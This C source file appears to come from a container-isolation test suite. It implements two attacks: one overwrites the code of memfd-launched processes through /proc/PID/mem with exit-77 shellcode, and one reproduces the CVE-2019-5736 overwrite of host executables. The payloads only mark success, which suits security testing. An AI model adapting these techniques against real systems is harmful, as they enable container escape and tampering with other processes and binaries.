/* Attacks that lie in wait: they watch /proc for programs that somebody else starts in this
 * container. */
#include "attack.h"
#include <dirent.h>
#include <limits.h>
#include <sys/stat.h>
#include <time.h>

/* exit_group(77), at the end of each slide of nops: wherever the target is, it ends there. The
 * slides are short because the kernel copies from low to high while the target runs on. */
#define SLIDE 512
static const unsigned char payload[] = {0xbf, 77, 0, 0, 0, 0xb8, 231, 0, 0, 0, 0x0f, 0x05};

/* Overwrites the code of `pid`, whose executable is a memfd named PATTERN. */
static int overwrite(int pid, int *opened)
{
	char path[64], line[512];
	unsigned long start = 0, end = 0;
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int memory = open(path, O_RDWR | O_CLOEXEC);
	if (memory < 0)
		return errno;
	++*opened;
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "r");
	while (maps && fgets(line, sizeof line, maps))
		if (strstr(line, "r-xp") && strstr(line, "memfd:") &&
		    sscanf(line, "%lx-%lx", &start, &end) == 2)
			break;
	if (maps)
		fclose(maps);
	int error = ESRCH;
	if (end > start) {
		size_t length = end - start;
		unsigned char *code = malloc(length);
		memset(code, 0x90, length);
		for (size_t at = SLIDE; at <= length; at += SLIDE)
			memcpy(code + at - sizeof payload, payload, sizeof payload);
		error = answer(pwrite(memory, code, length, start));
		free(code);
	}
	close(memory);
	return error;
}

/* DESIGN §5, second attack: watches /proc for SECONDS and writes into every process that runs a
 * memfd whose name holds PATTERN: the init of an exec session that is just starting. A session
 * that was captured ends with exit code 77. */
static int attack_capture(int argc, char **argv)
{
	double seconds = atof(argument(argc, argv, "5"));
	const char *pattern = argc > 1 ? argv[1] : "mantlet";
	int seen = 0, opened = 0, written = 0, error = ESRCH;
	struct timespec begin, now;
	char last[32] = "";
	clock_gettime(CLOCK_MONOTONIC, &begin);
	do {
		DIR *dir = opendir("/proc");
		if (!dir)
			return errno;
		for (struct dirent *entry; (entry = readdir(dir));) {
			char path[PATH_MAX], target[PATH_MAX];
			if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			ssize_t length = readlink(path, target, sizeof target - 1);
			if (length < 0)
				/* A process that hides its executable is worth a try. */
				strcpy(target, "memfd:?");
			else
				target[length] = 0;
			if (!strstr(target, "memfd:") || (length > 0 && !strstr(target, pattern)))
				continue;
			if (strcmp(last, entry->d_name))
				seen++;
			snprintf(last, sizeof last, "%.31s", entry->d_name);
			int tried = overwrite(atoi(entry->d_name), &opened);
			if (tried == 0)
				written++;
			else if (tried != ENOENT && tried != ESRCH)
				error = tried;
		}
		closedir(dir);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - begin.tv_sec + (now.tv_nsec - begin.tv_nsec) / 1e9 < seconds);
	printf("capture: seen %d opened %d written %d\n", seen, opened, written);
	return written ? 0 : error;
}

/* CVE-2019-5736: watches /proc for SECONDS, and until it has met one, for a program that is none of this image's, holds its
 * file, and writes into it once it no longer runs. One byte is appended where that is permitted. */
static int attack_exe_overwrite(int argc, char **argv)
{
	double seconds = atof(argument(argc, argv, "5"));
	int held[64], count = 0, error = ESRCH;
	struct timespec begin, now;
	struct stat image, found;
	if (stat("/proc/self/exe", &image) < 0)
		return errno;
	memset(held, -1, sizeof held);
	clock_gettime(CLOCK_MONOTONIC, &begin);
	do {
		DIR *dir = opendir("/proc");
		if (!dir)
			return errno;
		for (struct dirent *entry; (entry = readdir(dir));) {
			char path[PATH_MAX];
			if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			int file = open(path, O_PATH | O_CLOEXEC);
			if (file < 0 || fstat(file, &found) < 0 || found.st_dev == image.st_dev) {
				if (file < 0 && errno != ENOENT && errno != ESRCH)
					error = errno;
				close(file);
				continue;
			}
			close(held[count % 64]);
			held[count++ % 64] = file;
		}
		closedir(dir);
		for (int i = 0; i < 64 && held[i] >= 0; i++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
			int file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
			int tried = file < 0 ? errno : answer(write(file, "x", 1));
			close(file);
			if (tried == 0) {
				puts("exe-overwrite: written");
				return 0;
			}
			if (tried != ETXTBSY)
				error = tried;
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - begin.tv_sec + (now.tv_nsec - begin.tv_nsec) / 1e9 < seconds ||
		 error == ESRCH);
	printf("exe-overwrite: held %d\n", count);
	return error;
}

const struct attack watching_attacks[] = {
	{"capture", attack_capture, "for SECONDS, overwrite starting inits: [PATTERN]"},
	{"exe-overwrite", attack_exe_overwrite, "for SECONDS, write the files of foreign programs"},
	{NULL, NULL, NULL},
};
